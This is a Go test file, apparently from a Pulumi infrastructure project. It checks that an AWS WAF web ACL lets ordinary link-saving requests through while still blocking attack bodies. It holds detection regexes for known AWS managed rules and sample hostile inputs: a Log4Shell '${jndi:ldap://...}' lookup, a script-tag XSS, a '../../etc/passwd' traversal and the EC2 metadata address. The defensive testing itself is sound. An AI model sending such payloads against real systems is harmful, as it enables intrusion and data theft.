package main

import (
	"encoding/json"
	"regexp"
	"testing"

	"github.com/pulumi/pulumi/sdk/v3/go/common/apitype"
)

// knownPatterns are those of AWS's rules on bodies that its documentation and its users describe. AWS publishes no more: a rule that is not
// here may still match.
//   - https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html
//   - https://github.com/aws-samples/sample-kolya-br-proxy/pull/109
var knownPatterns = map[string]*regexp.Regexp{
	"GenericRFI_BODY":         regexp.MustCompile(`(?i)(https?|ftps?|file)://(\d{1,3}\.){3}\d{1,3}`),
	"EC2MetaDataSSRF_BODY":    regexp.MustCompile(`(?i)169\.254\.169\.254|://(localhost|127\.0\.0\.1):\d+`),
	"GenericLFI_BODY":         regexp.MustCompile(`\.\./\.\./`),
	"CrossSiteScripting_BODY": regexp.MustCompile(`(?i)<script`),
	"Log4JRCE_BODY":           regexp.MustCompile(`(?i)\$\{jndi:`),
}

// writes are bodies of the sample's only write that its users send; attacks must still be refused.
var writes = []struct {
	body   string
	attack bool
}{
	{`{"url":"https://example.com/a?b=c#d"}`, false},
	{`{"url":"http://203.0.113.7/status"}`, false},
	{`{"url":"http://localhost:3000/"}`, false},
	{`{"url":"http://169.254.169.254/latest/meta-data/"}`, false}, // stored, never fetched
	{`{"url":"https://example.com/","slug":"${jndi:ldap://203.0.113.7/a}"}`, true},
	{`{"url":"https://example.com/<script>alert(1)</script>"}`, true},
	{`{"url":"https://example.com/../../etc/passwd"}`, true},
}

// writesPass wants what people send to reach the app through the web ACL, as far as its rules are known, and attacks not to.
func writesPass(t *testing.T, state *apitype.DeploymentV3) {
	t.Helper()
	in := find(t, state, "aws:wafv2/webAcl:WebAcl", "links-").Inputs
	var rules []struct {
		OverrideAction struct{ Count, None *struct{} }
		Statement      struct {
			ManagedRuleGroupStatement struct {
				Name                string
				RuleActionOverrides []struct{ Name string }
			}
		}
	}
	if err := json.Unmarshal([]byte(text(t, in["rules"])), &rules); err != nil {
		t.Fatal(err)
	}
	groups, counted := 0, map[string]bool{}
	for _, rule := range rules {
		if rule.OverrideAction.None != nil {
			groups++
		}
		for _, o := range rule.Statement.ManagedRuleGroupStatement.RuleActionOverrides {
			counted[o.Name] = true
		}
	}
	if groups == 0 {
		t.Fatal("no group of managed rules blocks anything")
	}
	for _, write := range writes {
		refused := ""
		for name, pattern := range knownPatterns {
			if pattern.MatchString(write.body) && !counted[name] {
				refused = name
			}
		}
		if (refused != "") != write.attack {
			t.Errorf("%s is refused by %q, an attack: %t", write.body, refused, write.attack)
		}
	}
}
